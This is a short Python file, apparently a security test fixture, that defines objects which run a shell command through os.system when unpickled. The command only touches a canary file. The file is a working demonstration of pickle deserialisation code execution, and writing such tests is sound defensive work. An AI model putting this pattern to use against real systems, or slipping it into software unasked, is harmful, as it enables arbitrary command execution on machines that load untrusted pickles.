"""Returns objects that run code when they are unpickled."""

import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @CANARY@/pickle",)


def attack(array):
    return Bomb(), Bomb(), Bomb()
